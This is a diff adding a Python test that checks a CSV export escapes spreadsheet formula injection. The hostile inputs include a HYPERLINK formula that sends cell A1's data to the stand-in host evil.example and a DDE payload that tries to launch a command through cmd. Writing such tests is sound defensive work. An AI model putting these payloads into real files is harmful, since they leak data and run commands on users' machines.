@@ -39,3 +39,24 @@ def test_csv_has_one_row_per_report_and_keeps_text_verbatim(tmp_path):
 def test_empty_selection_is_still_valid_geojson():
     data = json.loads(selection_geojson([], "v", "nothing"))
     assert data["features"] == []
+
+
+def test_no_csv_cell_can_run_as_a_spreadsheet_formula(tmp_path):
+    from tests.support import read_rows, write_tables
+
+    rows = read_rows(FIXTURE_REPORTS)
+    hostile = {"summary": '=HYPERLINK("http://evil.example/?"&A1,"Click for source")', "claimant": "+1+1",
+               "notes": "@SUM(A1:A9)", "place_name": "-2+3", "nationality_label": "\t=1+1", "count_label": ""}
+    rows[0].update(hostile)
+    dataset = load_dataset(write_tables(tmp_path, rows))
+    data = selection_csv(list(dataset.features), dataset.version, "=cmd|' /C calc'!A0")
+    cells = [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in row]
+    for cell in cells:
+        if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
+            float(cell)  # only a number may start so
+    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click for source\")" in cells
+    assert "'=1+1" in cells and "'+1+1" in cells and "'@SUM(A1:A9)" in cells and "'-2+3" in cells
+    # The GeoJSON keeps the text as it was written.
+    collection = json.loads(selection_geojson(list(dataset.features), dataset.version, "x"))
+    first = next(f for f in collection["features"] if f["id"] == rows[0]["id"])["properties"]
+    assert first["summary"] == hostile["summary"] and first["nationality_label"] == "=1+1"
